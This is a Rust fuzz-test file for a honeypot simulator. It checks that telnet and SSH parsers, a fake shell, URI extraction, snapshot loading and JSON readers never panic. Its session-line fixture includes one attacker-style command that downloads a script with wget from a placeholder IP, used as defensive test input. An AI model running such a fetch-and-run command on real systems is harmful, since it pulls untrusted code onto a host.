//! Panic-freedom fuzz suites over the pipeline's parsing surfaces, driven
//! by the testkit's structured strategies (`honeyfarm::testkit::strategies`).
//!
//! Each suite runs 256 deterministic proptest cases (the vendored proptest
//! seeds case *i* from a fixed constant, so CI and local runs see the same
//! inputs):
//!
//! * telnet negotiation bytes → `TelnetDecoder` / `LineAssembler`
//! * SSH identification lines → `SshIdent::parse` (+ render round-trip)
//! * shell command lines → `split_statements` (+ lex→render→lex
//!   idempotence) and full `ShellSession::execute`
//! * URI-bearing payloads → `extract_uris`
//! * mutated snapshot bytes → `Snapshot::read_from`, which must reject
//!   every corruption with a typed `SnapshotError`, never a panic
//! * edited rows-chunk payloads, re-stamped so they pass every checksum →
//!   the column decoder and row contract behind `Snapshot::read_from`,
//!   which must end each case in a typed error or a clean load, never a
//!   panic; a file that loads then goes through both stream folds and
//!   `Report::build_with_tags`
//! * `@hfs` control directives mixed with login and command lines → a
//!   virtual-time `SessionConn`, which must never panic and must yield at
//!   most one record
//! * JSON-token soup and byte-mutated `metrics.json` renderings → the
//!   shared reader (`obs::json::Json::parse`) and
//!   `RunManifest::parse_json`, which must return a value or a typed error
//!
//! A checked-in corpus of real Cowrie-style command lines
//! (`tests/scenarios/corpus_commands.txt`) seeds the shell surfaces with
//! known-interesting inputs on top of the generated ones.

use std::io::Cursor;
use std::sync::{Arc, OnceLock};

use honeyfarm::cluster::features_from_snapshot_stream;
use honeyfarm::farm::{Snapshot, SnapshotError};
use honeyfarm::geo::Ip4;
use honeyfarm::obs::json::Json;
use honeyfarm::obs::{Histogram, MetricsSnapshot, RunManifest, SpanStats};
use honeyfarm::prelude::*;
use honeyfarm::proto::ssh_ident::SshIdent;
use honeyfarm::proto::telnet::{LineAssembler, TelnetDecoder, TelnetEvent};
use honeyfarm::proto::Protocol;
use honeyfarm::shell::{
    extract_uris, split_statements, ShellSession, SyntheticFetcher, SystemProfile,
};
use honeyfarm::testkit::{
    chunk_edit, command_line, render_statements, snapshot_mutation, ssh_ident_line, telnet_stream,
    uri_command_line,
};
use honeyfarm::wire::{ConnParams, FarmStats, SessionConn, Timing};
use proptest::prelude::*;

/// A small but real snapshot, serialized once and mutated per case. Its
/// rows go in chunks of 16, so mutations land on chunk digests, chunk
/// boundaries and the trailer as well as on row data.
fn snapshot_bytes() -> &'static [u8] {
    static BYTES: OnceLock<Vec<u8>> = OnceLock::new();
    BYTES.get_or_init(|| {
        let cfg = SimConfig::test(3);
        let out = Simulation::run(cfg.clone());
        let mut v = Vec::new();
        out.to_snapshot(&cfg)
            .write_to_chunked(&mut v, 16)
            .expect("write snapshot");
        assert!(
            out.dataset.sessions.len() > 16 * 8,
            "fixture snapshot has too few chunks"
        );
        v
    })
}

/// Merge adjacent `Data` events so chunking differences don't mask
/// semantic equality.
fn normalize(events: Vec<TelnetEvent>) -> Vec<TelnetEvent> {
    let mut out: Vec<TelnetEvent> = Vec::new();
    for ev in events {
        match (out.last_mut(), ev) {
            (Some(TelnetEvent::Data(tail)), TelnetEvent::Data(more)) => tail.extend(more),
            (_, ev) => out.push(ev),
        }
    }
    out
}

/// A `metrics.json` rendering with every section populated and names that
/// need escaping, rendered once and mutated per case.
fn metrics_json() -> &'static str {
    static TEXT: OnceLock<String> = OnceLock::new();
    TEXT.get_or_init(|| {
        let mut snap = MetricsSnapshot::default();
        snap.counters.insert("sim.sessions_executed".into(), 1234);
        snap.gauges.insert("neg \"quoted\"\tü🦀".into(), -3);
        let mut h = Histogram::new();
        for v in [0, 7, 7000] {
            h.record(v);
        }
        snap.histograms.insert("sim.day_sessions".into(), h);
        let span = SpanStats {
            count: 4,
            wall_ns: 400,
            self_ns: 40,
            cpu_ns: 300,
            max_wall_ns: 150,
            threads: ["main".to_string(), "producer \"p\"".to_string()].into(),
        };
        snap.spans.insert("sim.day".into(), span);
        RunManifest::from_snapshot("fuzz", snap).to_json()
    })
}

/// The pieces the JSON-soup strategy concatenates: every structural token,
/// escapes good and bad, surrogate halves, numbers, raw control and
/// multibyte characters.
const JSON_TOKENS: [&str; 22] = [
    "{",
    "}",
    "[",
    "]",
    ",",
    ":",
    "\"",
    "\"k\"",
    "\\",
    "\\u",
    "d83d",
    "de00",
    "00e9",
    "0",
    "-",
    "12345678901234567890123456789012345678901",
    " ",
    "\n",
    "é",
    "\u{1}",
    "true",
    "1.5",
];

/// Both readers over one text: each returns a value or an error that
/// renders, and never panics.
fn parse_both(text: &str) {
    if let Err(e) = Json::parse(text) {
        assert!(!e.to_string().is_empty());
    }
    if let Err(e) = RunManifest::parse_json(text) {
        assert!(!e.to_string().is_empty());
    }
}

fn shell() -> ShellSession {
    ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
}

/// The `@hfs` arguments the control-channel fuzz draws from: the edges of a
/// day and of `u32`, a value past `u32`, a negative number and junk.
const HFS_NUMBERS: [&str; 9] = [
    "0",
    "59",
    "60",
    "86399",
    "86400",
    "4294967295",
    "1099511627776",
    "-1",
    "9x",
];

/// The login and command lines the control directives are mixed with.
const SESSION_LINES: [&str; 8] = [
    "SSH-2.0-Go",
    "USER root",
    "PASS 1234",
    "root",
    "1234",
    "uname -a",
    "cd /tmp && wget http://198.51.100.1/x.sh",
    "EXIT",
];

/// One script line: a session line when `kind` is 0, otherwise an `@hfs`
/// directive (`verb` 6 and 7 are verbs the channel does not know).
fn hfs_script_line((kind, verb, a, b): (u8, usize, usize, usize)) -> String {
    let (n, m) = (HFS_NUMBERS[a], HFS_NUMBERS[b]);
    if kind == 0 {
        return SESSION_LINES[verb].to_string();
    }
    match verb {
        0 => format!("@hfs start {n} {m}"),
        1 => format!("@hfs client 203.0.113.{n} {m}"),
        2 => format!("@hfs fetcher {}", ["synthetic", "null", n][b % 3]),
        3 => format!("@hfs think {n}"),
        4 => format!("@hfs idle {n}"),
        5 => format!("@hfs transfer {n}"),
        6 => format!("@hfs {n} {m}"),
        _ => format!("@hfs reboot {n}"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// The telnet decoder is total on arbitrary bytes, and the line
    /// assembler is total on whatever data survives decoding.
    #[test]
    fn telnet_decoder_total_on_raw_bytes(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let mut dec = TelnetDecoder::new();
        let mut lines = LineAssembler::new();
        for ev in dec.feed(&bytes) {
            if let TelnetEvent::Data(d) = ev {
                let _ = lines.push(&d);
            }
        }
        let _ = lines.pending();
    }

    /// … and on structured almost-valid negotiation streams.
    #[test]
    fn telnet_decoder_total_on_structured(stream in telnet_stream()) {
        let mut dec = TelnetDecoder::new();
        let _ = dec.feed(&stream);
    }

    /// Feeding a stream in two chunks yields the same events as feeding it
    /// whole: the decoder's state machine survives arbitrary packetization.
    #[test]
    fn telnet_split_feed_equivalence(stream in telnet_stream(), cut in 0usize..512) {
        let cut = cut % (stream.len() + 1);
        let mut whole = TelnetDecoder::new();
        let one = normalize(whole.feed(&stream));

        let mut split = TelnetDecoder::new();
        let mut two = split.feed(&stream[..cut]);
        two.extend(split.feed(&stream[cut..]));
        prop_assert_eq!(one, normalize(two));
    }

    /// SSH ident parsing is total on structured near-valid lines, and a
    /// successfully parsed ident survives a render → parse round-trip.
    #[test]
    fn ssh_ident_parse_total_and_roundtrip(line in ssh_ident_line()) {
        if let Ok(ident) = SshIdent::parse(&line) {
            let again = SshIdent::parse(&ident.render());
            prop_assert_eq!(again.as_ref(), Ok(&ident));
        }
    }

    /// … and on arbitrary (possibly non-UTF-8 lossy) byte strings.
    #[test]
    fn ssh_ident_parse_total_on_raw_bytes(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let line = String::from_utf8_lossy(&bytes);
        let _ = SshIdent::parse(&line);
    }

    /// The shell lexer is total on arbitrary printable noise and on
    /// structured command lines.
    #[test]
    fn lexer_total_on_raw_bytes(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        let line = String::from_utf8_lossy(&bytes);
        let _ = split_statements(&line);
    }

    /// lex → render → lex is the identity on parsed structure: rendering a
    /// parse back to text and re-lexing reproduces the same statements.
    #[test]
    fn lexer_render_roundtrip(line in command_line()) {
        let first = split_statements(&line);
        let rendered = render_statements(&first);
        let second = split_statements(&rendered);
        let _ = &rendered;
        prop_assert_eq!(first, second);
    }

    /// URI extraction is total, and the URI-biased generator actually
    /// exercises it (extracted URIs are non-empty strings).
    #[test]
    fn uri_extraction_total(line in uri_command_line()) {
        for u in extract_uris(&line) {
            prop_assert!(!u.0.is_empty());
        }
    }

    /// The full shell (interpreter + VFS + builtins + fetcher) never panics
    /// on generated command lines.
    #[test]
    fn shell_execute_total(line in command_line(), chaser in uri_command_line()) {
        let mut sh = shell();
        let _ = sh.execute(&line);
        let _ = sh.execute(&chaser);
    }

    /// The `@hfs` control channel is total: a virtual-time connection fed
    /// directives over edge-case numbers and unknown verbs, before and after
    /// its first event and cut into arbitrary reads, never panics and
    /// yields at most one record.
    #[test]
    fn hfs_control_lines_total(
        telnet in prop::bool::ANY,
        lines in prop::collection::vec((0u8..3, 0usize..8, 0usize..9, 0usize..9), 0..24),
        mut cuts in prop::collection::vec(any::<usize>(), 0..6),
    ) {
        let script: String = lines.into_iter().map(|l| hfs_script_line(l) + "\n").collect();
        let bytes = script.as_bytes();
        for c in &mut cuts {
            *c %= bytes.len() + 1;
        }
        cuts.sort_unstable();
        let (mut conn, _) = SessionConn::new(ConnParams {
            honeypot: 0,
            protocol: if telnet { Protocol::Telnet } else { Protocol::Ssh },
            config: Arc::new(HoneypotConfig::default()),
            timing: Timing::Virtual,
            stats: FarmStats::new(),
            peer_ip: Ip4::new(198, 51, 100, 7),
            peer_port: 40000,
        });
        let mut out = Vec::new();
        let mut records = 0;
        let mut start = 0;
        for end in cuts.into_iter().chain([bytes.len()]) {
            records += usize::from(conn.on_input(&bytes[start..end], &mut out).is_some());
            start = end;
        }
        prop_assert!(records <= 1, "{records} records from {script:?}");
        prop_assert_eq!(conn.finished(), records == 1);
        if !conn.finished() {
            let _ = conn.on_eof();
        }
    }

    /// The JSON readers are total on arbitrary bytes (read lossily as text)
    /// and on concatenations of JSON tokens.
    #[test]
    fn json_readers_total_on_arbitrary_text(
        bytes in prop::collection::vec(any::<u8>(), 0..300),
        tokens in prop::collection::vec(0usize..JSON_TOKENS.len(), 0..64),
    ) {
        parse_both(&String::from_utf8_lossy(&bytes));
        parse_both(&tokens.iter().map(|&t| JSON_TOKENS[t]).collect::<String>());
    }

    /// … and on `metrics.json` renderings with bytes overwritten and the
    /// tail cut off.
    #[test]
    fn json_readers_total_on_mutated_manifests(
        edits in prop::collection::vec((any::<usize>(), any::<u8>()), 1..8),
        keep in any::<usize>(),
    ) {
        let mut bytes = metrics_json().as_bytes().to_vec();
        for (at, b) in edits {
            let at = at % bytes.len();
            bytes[at] = b;
        }
        bytes.truncate(keep % (bytes.len() + 1) + bytes.len() / 2);
        parse_both(&String::from_utf8_lossy(&bytes));
    }

    /// Every snapshot corruption is rejected with a typed `SnapshotError` —
    /// the loader never panics and never silently accepts damaged bytes.
    #[test]
    fn snapshot_mutations_rejected(op in snapshot_mutation()) {
        let original = snapshot_bytes();
        let mut mutated = original.to_vec();
        op.apply(&mut mutated);
        prop_assert!(mutated != original, "mutation {:?} was a no-op", op);
        match Snapshot::read_from(&mut Cursor::new(&mutated)) {
            Ok(_) => prop_assert!(false, "corrupted snapshot accepted after {:?}", op),
            Err(e) => {
                // The error is a typed variant with a readable rendering.
                prop_assert!(!e.to_string().is_empty());
            }
        }
    }

    /// An edited chunk payload whose length word, digest and trailer are
    /// re-stamped passes every checksum, so the column decoder (and the row
    /// contract behind it) sees it: a typed error or a clean load. A file
    /// that loads must also fold — the report's fold, the report built on
    /// it, and the cluster features' fold — without a panic or an error.
    #[test]
    fn restamped_chunk_edits_are_typed_or_load(op in chunk_edit()) {
        let mut mutated = snapshot_bytes().to_vec();
        op.apply(&mut mutated);
        match Snapshot::read_from(&mut Cursor::new(&mutated)) {
            Err(e) => {
                prop_assert!(
                    !matches!(
                        e,
                        SnapshotError::ChecksumMismatch { .. }
                            | SnapshotError::ChunkChecksumMismatch { .. }
                    ),
                    "{:?} did not reach the decoder: {}",
                    op,
                    e
                );
                prop_assert!(!e.to_string().is_empty());
            }
            Ok(_) => {
                let fold = FoldOutput::from_snapshot_stream(Cursor::new(&mutated));
                prop_assert!(fold.is_ok(), "{:?} loads, but the report fold refuses it", op);
                if let Ok(fold) = fold {
                    Report::build_with_tags(&fold.dataset, &fold.aggregates, &fold.tags);
                }
                let features = features_from_snapshot_stream(Cursor::new(&mutated));
                prop_assert!(features.is_ok(), "{:?} loads, but the feature fold refuses it", op);
            }
        }
    }
}

/// The unmutated fuzz fixture is a valid manifest, so the mutation suite
/// starts from text both readers accept.
#[test]
fn metrics_json_fixture_parses() {
    Json::parse(metrics_json()).expect("shared reader");
    RunManifest::parse_json(metrics_json()).expect("manifest reader");
}

/// The checked-in Cowrie-style corpus drives every shell surface without
/// panicking, and the lexer round-trip holds on each line.
#[test]
fn corpus_commands_drive_the_shell() {
    let path = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/scenarios/corpus_commands.txt");
    let corpus = std::fs::read_to_string(&path).expect("corpus file");
    let mut sh = shell();
    let mut n = 0usize;
    for line in corpus.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        n += 1;
        let first = split_statements(line);
        if line.is_ascii() {
            // Render → re-lex is the identity only for ASCII input: the
            // lexer transcodes bytes Latin-1 style (one char per byte), so
            // rendering non-ASCII words re-encodes them as multi-byte UTF-8
            // and a second lex expands them again. Non-ASCII corpus lines
            // are covered by the differential oracle in
            // tests/fuzz_lexer_equiv.rs instead.
            let second = split_statements(&render_statements(&first));
            assert_eq!(first, second, "lexer round-trip unstable for {line:?}");
        }
        let _ = extract_uris(line);
        let _ = sh.execute(line);
    }
    assert!(n >= 30, "corpus unexpectedly small: {n} lines");
}
